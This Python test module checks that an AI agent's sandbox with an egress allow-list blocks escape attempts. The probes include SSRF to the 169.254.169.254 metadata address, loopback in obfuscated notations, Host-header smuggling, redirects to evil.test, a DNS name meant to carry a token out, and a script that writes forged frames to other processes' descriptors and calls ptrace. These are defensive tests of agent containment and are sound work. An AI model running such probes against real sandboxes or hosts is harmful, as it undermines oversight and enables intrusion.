"""Ways out of a sandbox that is let out to a little, tried by an agent that tries everything.

Real sandboxes on this machine and in containers; the host outside is a real server on loopback,
which only the operator's own entry lets a run reach.
"""

import io
import subprocess
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from resolver.events.actions import CmdRun, IPythonRunCell, Message
from resolver.events.lifecycle import Egress
from resolver.events.observations import CmdOutput
from resolver.runtime.base import Machine, can_change_host_files
from resolver.runtime.egress import EgressPolicy
from resolver.runtime.runtime import Runtime
from resolver.sandbox import wire
from tests.attacks.canaries import CANARIES
from tests.attacks.stage import Stage
from tests.parts.git_http import git_http_app, token_gate
from tests.parts.runs import bash, finish, make_checkout
from tests.parts.sandboxes import DOCKER_BUSYBOX, DOCKER_PYTHON, LOCAL, kinds
from tests.parts.waiting import becomes_true
from tests.parts.wsgi import serve
from tests.runtime.outside import NAME, Outside, let_out, serving_outside

pytestmark = pytest.mark.usefixtures("namespaces")

every_kind = pytest.mark.parametrize("kind", kinds(LOCAL, DOCKER_BUSYBOX))
in_container = pytest.mark.parametrize("kind", kinds(DOCKER_PYTHON))
local_only = pytest.mark.parametrize("kind", kinds(LOCAL))

KNOWN = {
    "inside.corp.example": ["10.0.0.7"], "loop.corp.example": ["127.0.0.1"],
    "meta.corp.example": ["169.254.169.254"], "six.corp.example": ["::1"],
    "mapped.corp.example": ["::ffff:127.0.0.1"],
    "other.example": ["127.0.0.1"],
}  # fmt: skip
FETCH = """
import urllib.request
def fetch(url, **more):
    try:
        return urllib.request.urlopen(urllib.request.Request(url, **more), timeout=20).read()
    except Exception as error:
        return f"{type(error).__name__}: {getattr(error, 'reason', error)}"
"""


@pytest.fixture(scope="module")
def outside() -> Iterator[Outside]:
    with serving_outside() as server:
        yield server


class Box:
    """A running sandbox that is let out."""

    def __init__(self, runtime: Runtime) -> None:
        self.runtime = runtime

    def run(self, command: str, timeout: float = 60) -> CmdOutput:
        found = self.runtime.execute(CmdRun(command=command, timeout=timeout))
        assert isinstance(found, CmdOutput), found
        return found

    def cell(self, code: str) -> str:
        return self.runtime.execute(IPythonRunCell(code=code, timeout=120)).content.strip()

    def fetch(self, url: str, more: str = "") -> str:
        self.cell(FETCH)
        return self.cell(f"print(fetch({url!r}{more}))")

    def wait_for_connections(self, count: int = 1) -> list[Egress]:
        """The connections so far, waited for: they end a moment after the program has its bytes."""
        result: list[Egress] = []

        def are_all() -> bool:
            result.extend(self.runtime.take_connections())
            return sum(c.connections for c in result) >= count

        becomes_true(are_all, 60, pause=0.02)
        return result


LetOut = Callable[[EgressPolicy], Box]


@pytest.fixture
def box(kind: str, new_machine: Callable[..., Machine]) -> Iterator[LetOut]:
    """Starts a sandbox of the parametrised `kind` with a policy."""
    started: list[Runtime] = []

    def start(policy: EgressPolicy) -> Box:
        machine = new_machine(kind, egress=policy.allowed.entries)
        started.append(Runtime(machine, 60, policy).__enter__())
        return Box(started[-1])

    yield start
    for runtime in started:
        runtime.close()


@pytest.fixture(scope="module")
def started(new_machine: Callable[..., Machine], outside: Outside) -> Iterator[Callable[..., Box]]:
    """Starts one sandbox of each kind, let out to the one host outside."""
    boxes: dict[str, Box] = {}

    def start(kind: str) -> Box:
        if kind not in boxes:
            policy = let_out(outside.entry)
            machine = new_machine(kind, egress=policy.allowed.entries)
            boxes[kind] = Box(Runtime(machine, 60, policy).__enter__())
        return boxes[kind]

    yield start
    for box in boxes.values():
        box.runtime.close()


@pytest.fixture
def inside(kind: str, started: Callable[..., Box]) -> Box:
    """The sandbox of this kind that the module's tests share. Each of them waits for the
    connections that it makes."""
    return started(kind)


@every_kind
def test_the_allowed_host_is_reached_and_recorded(inside: Box, outside: Outside) -> None:
    """A program uses a host of the list: it is reached, and the connection is logged."""
    assert inside.fetch(f"{outside.url}/x") == f"b'/x {NAME}:{outside.port}\\n'"
    assert inside.fetch(f"{outside.url}/p", ", data=b'y' * 3_000_000") == "b'3000000\\n'"
    got, sent = inside.wait_for_connections(2)
    assert (got.host, got.port, got.allowed, got.reason) == (NAME, outside.port, True, "")
    assert got.bytes_sent > 0 and got.bytes_received > 0 and sent.bytes_sent > 3_000_000
    assert "but a proxy to" in inside.runtime.isolation or "but for a proxy" in (
        inside.runtime.isolation
    )


@local_only
def test_everything_else_is_refused_and_recorded(box: LetOut, outside: Outside) -> None:
    """Programs try names like the allowed one, other ports, addresses in all notations and
    private targets: each is refused and logged."""
    inside = box(
        let_out(outside.entry, "*.corp.example", "example.org", "other.example", known=KNOWN)
    )
    before = len(outside.seen)
    port = outside.port
    wanted = {
        "http://evil.test/": "not on the allow-list",
        "https://evil.test/": "not on the allow-list",
        "http://mirror.test.evil.test/": "not on the allow-list",
        f"http://mirror.test:{port + 1}/": f"only {port}",
        "http://1.1.1.1/": "addresses are refused",
        f"http://0x7f000001:{port}/": "addresses are refused",
        f"http://2130706433:{port}/": "addresses are refused",
        f"http://0177.0.0.1:{port}/": "addresses are refused",
        f"http://127.1:{port}/": "addresses are refused",
        "http://169.254.169.254/latest/meta-data/": "addresses are refused",
        "https://169.254.169.254/": "addresses are refused",
        f"http://[::ffff:127.0.0.1]:{port}/": "addresses are refused",
        f"http://other.example:{port}/": "only 80, 443",
        "https://inside.corp.example/": "address 10.0.0.7 is not public",
        "http://loop.corp.example/": "address 127.0.0.1 is not public",
        "http://meta.corp.example/": "address 169.254.169.254 is link-local",
        "https://six.corp.example/": "address ::1 is not public",
        "https://mapped.corp.example/": "address ::ffff:127.0.0.1 is not public",
        "https://example.org:22/": "only 80, 443",
    }
    inside.cell(FETCH)
    for url, says in wanted.items():
        said = inside.cell(f"print(fetch({url!r}))")
        assert "403" in said or "Forbidden" in said, (url, said)
        assert says in said, (url, said)
    connections = inside.wait_for_connections(len(wanted))
    assert len(connections) == len(wanted)
    assert not any(connection.allowed for connection in connections)
    assert not any(connection.bytes_received for connection in connections)
    assert outside.seen[before:] == []


@every_kind
def test_no_other_route_leads_out(inside: Box, outside: Outside) -> None:
    """Programs connect to addresses without the proxy, and look names up: nothing is reached."""
    code = "import socket; s = socket.create_connection(({!r}, {}), 3); print('REA' + 'CHED', s)"
    for address in ("127.0.0.1", "::1", "172.17.0.1", "1.1.1.1", "169.254.169.254"):
        assert "REACHED" not in inside.cell(code.format(address, outside.port)), address
    name = f"import socket; print('RESOL' + 'VED', socket.gethostbyname({NAME!r}))"
    assert "RESOLVED" not in inside.cell(name)
    assert inside.runtime.take_connections() == []


@every_kind
def test_without_egress_nothing_listens_and_nothing_is_set(
    kind: str, new_machine: Callable[..., Machine]
) -> None:
    """No host is allowed: nothing listens as a proxy, and no proxy variable is set."""
    with Runtime(new_machine(kind), 30) as runtime:
        code = "import socket; socket.create_connection(('127.0.0.1', 3128), 3)"
        assert "Connection refused" in runtime.execute(IPythonRunCell(code=code)).content
        shown = runtime.execute(CmdRun(command="export -p; set")).content
        assert "_PROXY" not in shown and "_proxy" not in shown


@local_only
def test_a_redirect_to_another_host_is_a_new_connection(inside: Box, outside: Outside) -> None:
    """An allowed host redirects elsewhere: each redirect is a connection of its own, and only
    those to allowed hosts are made."""
    for target in ("http://evil.test/", "http://169.254.169.254/", f"{outside.url}/landed"):
        inside.fetch(f"{outside.url}/to/{target}")
    connections = sorted((c.host, c.allowed) for c in inside.wait_for_connections(6))
    assert connections == sorted(
        [("evil.test", False), ("169.254.169.254", False), *[(NAME, True)] * 4]
    )


RAW = """
import socket
def ask(data, port=3128):
    with socket.create_connection(("127.0.0.1", port), 20) as s:
        s.sendall(data); s.shutdown(socket.SHUT_WR)
        got = b""
        try:
            while part := s.recv(65536): got += part
        except ConnectionResetError: got += b"RESET"
    return got
"""


@local_only
def test_the_host_header_can_not_name_another_host(inside: Box, outside: Outside) -> None:
    """A request through an allowed connection names another host in its head: the header is
    replaced, or the connection is closed."""
    before = len(outside.seen)
    inside.cell(RAW + "import os; port = int(os.environ['HTTP_PROXY'].rpartition(':')[2])")
    target = f"http://{NAME}:{outside.port}/r"
    inside.cell(f"ask(b'GET {target} HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n', port)")
    assert outside.seen[before:] == [f"GET /r {NAME}:{outside.port}"]
    tunnel = (
        f"CONNECT {NAME}:{outside.port} HTTP/1.1\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: evil.test"
    )
    inside.cell(f"ask(b'{tunnel}\\r\\n\\r\\n', port)")
    assert len(outside.seen) == before + 1
    assert "names another host, 'evil.test'" in inside.wait_for_connections(2)[-1].reason


@local_only
def test_two_hundred_connections_at_once_are_served(inside: Box, outside: Outside) -> None:
    """A program opens 200 connections at once: all are served within the limit of open ones."""
    code = (
        FETCH + "from concurrent.futures import ThreadPoolExecutor\n"
        "with ThreadPoolExecutor(200) as pool:\n"
        f"    found = list(pool.map(fetch, ['{outside.url}/bytes/20000'] * 200))\n"
        "print([len(f) for f in found] == [20000] * 200 or found[:3])"
    )
    assert inside.cell(code) == "True"
    connections = inside.wait_for_connections(200)
    assert sum(connection.connections for connection in connections) == 200
    assert all(connection.allowed and not connection.reason for connection in connections)


@local_only
def test_a_command_is_answered_during_a_large_download(inside: Box, outside: Outside) -> None:
    """A large download fills the wire between sandbox and host: commands are still answered."""
    inside.cell(
        FETCH + f"import threading; t = threading.Thread(target=lambda: sizes.append("
        f"len(fetch('{outside.url}/bytes/40000000')))); sizes = []; t.start()"
    )
    waits = [inside.run("true").seconds for _ in range(10)]
    assert max(waits) < 5
    assert inside.cell("t.join(); print(sizes)") == "[40000000]"
    inside.wait_for_connections()


def wheel() -> bytes:
    """A package that pip installs."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        info = "parcel-1.0.dist-info"
        archive.writestr("parcel.py", "weight = 7\n")
        archive.writestr(f"{info}/METADATA", "Metadata-Version: 2.1\nName: parcel\nVersion: 1.0\n")
        archive.writestr(f"{info}/WHEEL", "Wheel-Version: 1.0\nTag: py3-none-any\n")
        archive.writestr(f"{info}/RECORD", "")
    return packed.getvalue()


def files_app(files: dict[str, bytes]) -> Any:
    def app(environ: dict[str, Any], start_response: Callable[..., Any]) -> list[bytes]:
        body = files.get(environ["PATH_INFO"])
        kind = "text/html" if environ["PATH_INFO"].endswith("/") else "application/octet-stream"
        head = [("Content-Type", kind), ("Content-Length", str(len(body or b"")))]
        start_response("200 OK" if body is not None else "404 Not Found", head)
        return [body or b""]

    return app


@in_container
def test_pip_installs_from_an_allowed_index(box: LetOut) -> None:
    """pip uses an allowed index: it installs without any further setting."""
    name = "parcel-1.0-py3-none-any.whl"
    files = {
        "/simple/parcel/": f'<a href="/files/{name}">{name}</a>'.encode(),
        f"/files/{name}": wheel(),
    }
    with serve(files_app(files)) as address:
        inside = box(let_out(f"private:{NAME}:{address.port}"))
        index = f"--index-url http://{NAME}:{address.port}/simple --trusted-host {NAME}"
        done = inside.run(f"pip install -q --break-system-packages --target /tmp/p {index} parcel")
        assert done.exit_code == 0, done.content
        assert inside.run("PYTHONPATH=/tmp/p python3 -c 'import parcel; print(parcel.weight)'") \
            .content.strip() == "7"  # fmt: skip
        elsewhere = inside.run(
            "pip download -q --retries 0 --trusted-host evil.test "
            "--index-url http://evil.test/ parcel"
        )
        assert elsewhere.exit_code != 0
        assert {c.host for c in inside.wait_for_connections() if not c.allowed} == {"evil.test"}


@local_only
def test_git_clones_and_pushes_over_http(box: LetOut, tmp_path: Path) -> None:
    """git uses an allowed host: it clones and pushes, so an allowed host can receive data."""
    bare = tmp_path / "served" / "o" / "r.git"
    checkout = make_checkout(tmp_path / "seed", {"f": "one\n" * 1000})
    subprocess.run(["git", "clone", "-q", "--bare", checkout, bare], check=True)
    with serve(git_http_app(tmp_path / "served", token_gate(["t0ken"], None))) as address:
        inside = box(let_out(f"private:{NAME}:{address.port}"))
        url = f"http://{NAME}:{address.port}/o/r.git"
        done = inside.run(f"git clone -q {url} /tmp/clone-r && wc -l < /tmp/clone-r/f")
        assert done.content.strip() == "1000", done.content
        large = "head -c 3000000 /dev/urandom > /tmp/clone-r/large"
        commit = "git -c user.name=x -c user.email=x@x commit -qm large"
        push = f"git push -q http://x:t0ken@{NAME}:{address.port}/o/r.git HEAD:refs/heads/large"
        done = inside.run(f"{large}; cd /tmp/clone-r && git add -A && {commit} && {push}")
        assert done.exit_code == 0, done.content
        assert all(connection.allowed for connection in inside.wait_for_connections())


FORGE = """
import os
closed, written = [], []
for pid in {{p for p in os.listdir('/proc') if p.isdigit()}} - {{str(os.getpid())}}:
    try:
        numbers = os.listdir(f'/proc/{{pid}}/fd')
    except OSError as error:
        closed.append(pid)
        continue
    for number in numbers:
        path = f'/proc/{{pid}}/fd/{{number}}'
        try:
            if not os.readlink(path).startswith(('pipe', 'socket')):
                continue
            file = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
            os.write(file, {frame!r})
            written.append(path)
        except PermissionError:
            closed.append(pid)
        except OSError:
            pass
def serves(pid):
    words = open(f'/proc/{{pid}}/cmdline', 'rb').read().split(b'\\0')
    return b'--scratch' in words and b'-c' not in words  # not the shell that waits for it
servers = [pid for pid in os.listdir('/proc') if pid.isdigit() and serves(pid)]
import ctypes
libc = ctypes.CDLL(None)
print(len(servers) > 0, [pid in closed for pid in servers],
      [libc.ptrace(16, int(pid), None, None) for pid in servers])
"""


@every_kind
def test_no_program_inside_can_write_on_the_wire(box: LetOut, outside: Outside) -> None:
    """A program looks for the descriptors of the connection to the host: it can't write on it."""
    inside = box(let_out(outside.entry))
    forged = wire.tunnel_notice(
        wire.TunnelFrame("tunnel_open", 999_999, host="forged.example", port=443)
    )
    said = inside.cell(FORGE.format(frame=forged))
    assert said.startswith("True [True") and "False" not in said and "0" not in said, said
    assert inside.run("echo alive").content.strip() == "alive"
    assert inside.fetch(f"{outside.url}/x").startswith("b'/x")
    assert [connection.host for connection in inside.wait_for_connections()] == [NAME]


@local_only
def test_where_the_network_is_shared_the_isolation_line_says_that_the_list_does_not_bind(
    kind: str, new_machine: Callable[..., Machine]
) -> None:
    """A machine can't take the network away: the run says that the list does not bind."""
    machine: Any = new_machine(kind, egress=("packages",))
    machine._note_isolation({})
    assert "NOT separated" in machine.isolation
    shared = machine.isolation.partition("NOT separated")[2]
    assert can_change_host_files(machine.isolation)
    assert "network (the allow-list binds only what uses the proxy)" in shared
    machine._note_isolation({"files": True})
    assert not can_change_host_files(machine.isolation)


def test_a_whole_run_tells_its_connections_and_carries_no_secret(stage: Stage) -> None:
    """A whole run connects to an allowed and to another host: both connections are logged, and
    no secret is sent."""
    seen: list[str] = []

    def app(environ: dict[str, Any], start_response: Callable[..., Any]) -> list[bytes]:
        seen.append(str(environ))
        start_response("200 OK", [("Content-Type", "text/plain")])
        return [b"hello from outside\n"]

    fetch = (
        "python3 -c \"import urllib.request as u; print(u.urlopen('{}').read())\" 2>&1 | tail -n 1"
    )
    with serve(app) as address:
        entry = f"private:localhost:{address.port}"
        # Loopback names go past the proxy unless a program is told otherwise.
        allowed = "no_proxy= NO_PROXY= " + fetch.format(f"http://localhost:{address.port}/")
        done = stage.play(
            bash(f"{allowed}; export -p"),
            bash(fetch.format("http://token-in-a-name.evil.test/")),
            finish(),
            options=("--egress", entry, "--egress", "packages,github"),
        )
    connections = [event for event in done.events if isinstance(event, Egress)]
    assert [(c.host, c.allowed) for c in connections] == [
        ("localhost", True), ("token-in-a-name.evil.test", False),
    ]  # fmt: skip
    assert b"hello from outside" in done.everything
    [prompt] = [e.content for e in done.events if isinstance(e, Message) and e.cause is None]
    assert f"names already: localhost:{address.port}, packages (pypi.org, " in prompt
    trace = (done.output / "trace.md").read_text()
    assert "token-in-a-name.evil.test:80 refused" in trace.replace("\\", "").replace("\u200b", "")
    sinks = stage.sinks(done) + "".join(seen).encode()
    for canary in CANARIES.values():
        assert canary.encode() not in sinks
    assert [event.id for event in done.events] == list(range(len(done.events)))
